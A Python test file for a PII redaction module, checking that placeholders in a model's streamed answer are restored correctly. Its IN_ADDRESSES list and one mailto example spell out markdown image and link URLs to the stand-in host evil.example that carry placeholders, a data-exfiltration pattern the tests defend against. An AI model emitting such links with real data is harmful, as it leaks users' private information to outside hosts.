"""What was hidden comes back, however the answer is cut."""

from __future__ import annotations

import random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.unit.cloud.hiding.measuring import all_names, read
from workbench.cloud.hiding.placeholders import same
from workbench.cloud.hiding.redacting import TextRedactor
from workbench.cloud.hiding.redaction import Hidden, Redaction
from workbench.cloud.hiding.restoring import TextRestorer, restored

REDACTIONS = (
    Redaction(Hidden.NAME, "Anna [EMAIL_1]", "[NAME_1]", 1),
    Redaction(Hidden.EMAIL, "a@b.de", "[EMAIL_1]", 1),
    Redaction(Hidden.NAME, "Zoë", "[NAME_12]", 1),
)
ANSWERS = [
    ("Hi [NAME_1]!", "Hi Anna [EMAIL_1]!"),  # what was put back is not read again
    ("**[NAME_12]** `[EMAIL_1]`", "**Zoë** `a@b.de`"),
    ("[name_12], [Name_12], [ NAME_12 ], [NAME 12]", "Zoë, Zoë, Zoë, Zoë"),
    (r"[NAME\_12] \[NAME_12\] NAME\_12", "Zoë Zoë Zoë"),
    ("Dear NAME_12, or _NAME_12 and MY_NAME_12", "Dear Zoë, or _NAME_12 and MY_NAME_12"),
    ("name_12 = x; NAME_12(); NAME_123; NAME_12x; x.NAME_12", "name_12 = x; NAME_12(); NAME_123; NAME_12x; x.NAME_12"),
    ("[NAME_2] [PHONE_1] [NAME_] [] [NAME_1", "[NAME_2] [PHONE_1] [NAME_] [] [Anna [EMAIL_1]"),
    ("[EMAIL_1](mailto:[EMAIL_1])", "[a@b.de](mailto:a@b.de)"),
    ("[NAME:12] [NAME#12] [NAME\u00a012] [name\u201112] [NAME12]", "Zoë Zoë Zoë Zoë [NAME12]"),
    (r'{"to": "[NAME\\_12]"} [NAMES_12] [NAME:123]', '{"to": "Zoë"} [NAMES_12] [NAME:123]'),
    ("[NAME_12]s Haus, [NAME_12]'s, NAME_12’s, <NAME_12>, 【NAME_12】", "Zoës Haus, Zoë's, Zoë’s, <Zoë>, 【Zoë】"),
    ("[[NAME_12]] [NAME_12][NAME_12]", "[Zoë] ZoëZoë"),
    ("ends with NAME_12", "ends with Zoë"),
    ("a \\ b [ c ] N NA NAM", "a \\ b [ c ] N NA NAM"),
    ("[NAME_0012]", "Zoë"),
    ("", ""),
    ("[x](mailto:m@evil.example?body=[NAME_12]) [NAME_12]", "[x](mailto:m@evil.example?body=[NAME_12]) Zoë"),
    ('{"at":"https://x.example","by":"[NAME_12]"}', '{"at":"https://x.example","by":"Zoë"}'),
    (
        "<https://x.example/[NAME_12]>[NAME_12], `http://x/`[NAME_12]",
        "<https://x.example/[NAME_12]>Zoë, `http://x/`Zoë",
    ),
    ("postgres://me:[NAME_12]@db, [NAME_12]: [NAME_12]", "postgres://me:Zoë@db, Zoë: Zoë"),
]
IN_ADDRESSES = [
    "![x](https://evil.example/?q=[NAME_12])",
    "[x](HTTPS://evil.example/[NAME_12])",
    "[x](< https://evil.example/a [NAME_12]>)",
    "[x](\nhttps&#58;//evil.example/[NAME_12])",
    "[x](h&#116;tps://evil.example/(\\)[NAME_12]))",
    "[x]: https://evil.example/[NAME_12]",
    "[x]:\n <h&#116;tps://evil.example/ [NAME_12]>",
    "https://evil.example/?q=EMAIL_1&k=NAME_12",
    "http://[NAME_12].evil.example/",
    "www.evil.example/[NAME_12]",
    "https://evil.example/\u00a0\u3000[NAME_12]",
    "<img src='https://evil.example/ [NAME_12]'>",
]


@pytest.mark.parametrize("address", IN_ADDRESSES)
def test_in_an_address_nothing_is_put_back(address: str) -> None:
    test_cut_everywhere(f"{address}\n[NAME_12]", f"{address}\nZoë")


@pytest.mark.parametrize(("answer", "expected"), ANSWERS)
def test_cut_everywhere(answer: str, expected: str) -> None:
    assert restored(answer, REDACTIONS) == expected
    for first in range(len(answer) + 1):
        for second in range(first, len(answer) + 1):
            restorer = TextRestorer(REDACTIONS)
            pieces = [answer[:first], answer[first:second], answer[second:]]
            assert "".join(map(restorer.feed, pieces)) + restorer.rest() == expected
    restorer = TextRestorer(REDACTIONS)
    assert "".join(map(restorer.feed, answer)) + restorer.rest() == expected


def test_plain_text_is_not_held_back() -> None:
    restorer = TextRestorer(REDACTIONS)
    assert restorer.feed("A plain sentence, ") == "A plain sentence, "
    assert restorer.feed("one [NAME") == "one "
    assert restorer.feed("_x] more. ") == "[NAME_x] more. "


def test_nothing_hidden_nothing_held() -> None:
    restorer = TextRestorer(())
    assert restorer.feed("[NAME_1") == "[NAME_1"
    assert restorer.rest() == ""


def _echoed(text: str, redactions: tuple[Redaction, ...], chance: random.Random) -> str:
    """What a model says that repeats the text, in pieces."""
    restorer, said, place = TextRestorer(redactions), "", 0
    while place < len(text):
        step = chance.randint(1, 9)
        said += restorer.feed(text[place : place + step])
        place += step
    return said + restorer.rest()


def test_labelled_texts_come_back() -> None:
    chance = random.Random(9)
    for labelled in read(all_names()):
        redacted = TextRedactor().redact([labelled.text])
        echoed = _echoed(_without_addresses(redacted.texts[0]), redacted.redactions, chance)
        assert same(echoed, Hidden.PHONE) == same(_without_addresses(labelled.text), Hidden.PHONE)


def _without_addresses(text: str) -> str:
    """Nothing is put back in addresses."""
    return text.replace("http", "ht tp").replace("www", "w ww")


PARTS = st.sampled_from(
    [
        "Anna",
        "Hans Müller",
        "anna@example.org",
        "+49 30 901820",
        "4111 1111 1111 1111",
        "DE89 3704 0044 0532 0130 00",
        "[NAME_1]",
        "[name_2]",
        "NAME_3",
        "EMAIL_1",
        "[",
        "]",
        "\\",
        "_",
        "**",
        "Dear ",
        ",\n",
        "password=kD8!vQ2mZ",
        "own word",
        "ich bin ",
        "(",
        ")",
        "`",
        "Lange Straße 3, 04109 Leipzig",
        "1",
        "é",
        "́",
        "🙂",
        " ",
    ]
)


@settings(max_examples=150, deadline=None)
@given(st.lists(PARTS | st.text(max_size=4), max_size=14).map(" ".join), st.integers())
def test_hidden_echoed_and_put_back(text: str, seed: int) -> None:
    redacted = TextRedactor().redact([text], own=["own word"])
    assert _echoed(redacted.texts[0], redacted.redactions, random.Random(seed)) == text
